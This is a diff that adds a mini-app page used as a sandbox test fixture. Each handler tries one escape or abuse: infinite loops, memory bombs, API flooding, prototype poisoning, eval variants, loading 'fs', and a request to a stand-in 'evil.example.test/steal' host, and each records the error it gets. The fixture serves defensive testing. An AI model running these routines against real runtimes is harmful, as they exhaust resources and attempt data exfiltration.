@@ -1,0 +1,124 @@
+// A mini-app that attacks its sandbox, one handler per attack. Each handler records
+// what the app saw in `result`, so tests can assert the error a mini-app gets.
+function errText(e) {
+  return e && (e.errMsg || e.message) || String(e)
+}
+
+Page({
+  data: { result: '', lastError: '' },
+
+  report(value) {
+    this.setData({ result: value })
+  },
+
+  loop() {
+    while (true) {}
+  },
+
+  intervalLoop() {
+    setInterval(() => { for (;;) {} }, 10)
+  },
+
+  stringBomb() {
+    let s = 'x'
+    for (;;) s = s + s
+  },
+
+  arrayBomb() {
+    const a = []
+    for (let i = 0; ; i++) a.push({ i, pad: 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' + i })
+  },
+
+  undeclared() {
+    wx.getUserProfile({ desc: 'who are you' }).then(
+      () => this.report('granted?!'),
+      e => this.report(errText(e)))
+  },
+
+  flood() {
+    let ok = 0, limited = 0, other = 0, done = 0
+    const n = 10000
+    for (let i = 0; i < n; i++) {
+      wx.getSystemInfo().then(() => { ok++ }, e => {
+        if (/rate limit/.test(errText(e))) limited++; else other++
+      }).then(() => {
+        if (++done === n) this.report(JSON.stringify({ ok, limited, other }))
+      })
+    }
+  },
+
+  tamper() {
+    const seen = []
+    // Poison the prototypes the framework could lean on, then try to swap wx's methods.
+    Object.prototype.success = function () { seen.push('poisoned success ran') }
+    Object.prototype.then = function () { seen.push('poisoned then ran') }
+    Array.prototype.push = function () { return 0 }
+    JSON.stringify = function () { return '{"name":"navigateTo","args":{"url":"/etc/passwd"}}' }
+    try { wx.showToast = function () { seen.push('replaced') } } catch (e) { seen.push('assign: ' + e.constructor.name) }
+    try { Object.defineProperty(wx, 'showToast', { value: 1 }) } catch (e) { seen.push('define: ' + e.constructor.name) }
+    try { sf.extra = 1 } catch (e) { seen.push('extend: ' + e.constructor.name) }
+    delete Object.prototype.then
+    wx.setClipboardData({ data: 'still works', complete: (r) => {
+      delete Object.prototype.success
+      this.report(seen.join(',') + ' | ' + r.errMsg)
+    } })
+  },
+
+  requireFs() {
+    try { require('fs'); this.report('fs loaded?!') } catch (e) { this.report(errText(e)) }
+  },
+
+  evals() {
+    const attempts = {
+      eval: () => eval('1'),
+      indirectEval: () => (0, eval)('1'),
+      Function: () => new Function('return 1')(),
+      ctor: () => (function () {}).constructor('return 1')(),
+      asyncCtor: () => (async function () {}).constructor('return 1'),
+      genCtor: () => (function* () {}).constructor('return 1'),
+      stringTimer: () => setTimeout('1', 0)
+    }
+    const out = {}
+    for (const k of Object.keys(attempts)) {
+      try { attempts[k](); out[k] = 'ran' } catch (e) { out[k] = /not allowed/.test(errText(e)) ? 'blocked' : errText(e) }
+    }
+    this.report(JSON.stringify(out))
+  },
+
+  requestUndeclared() {
+    wx.request({ url: 'https://evil.example.test/steal' }).then(
+      () => this.report('sent?!'),
+      e => this.report(errText(e)))
+  },
+
+  requestLoopback(e) {
+    const url = e.detail && e.detail.url
+    wx.request({ url }).then(
+      () => this.report('sent?!'),
+      err => this.report(errText(err)))
+  },
+
+  askTwice() {
+    const out = []
+    sf.requestCapability('clipboard:write').then(
+      r => out.push('first: ' + r.errMsg),
+      e => out.push('first: ' + errText(e))
+    ).then(() => sf.requestCapability('clipboard:write')).then(
+      r => out.push('second: ' + r.errMsg),
+      e => out.push('second: ' + errText(e))
+    ).then(() => this.report(out.join(' | ')))
+  },
+
+  bigSetData() {
+    try {
+      this.setData({ big: 'x'.repeat(2 << 20) })
+      this.report('accepted?!')
+    } catch (e) {
+      this.report(errText(e))
+    }
+  },
+
+  copy() {
+    wx.setClipboardData({ data: 'hello' }).then(r => this.report(r.errMsg), e => this.report(errText(e)))
+  }
+})
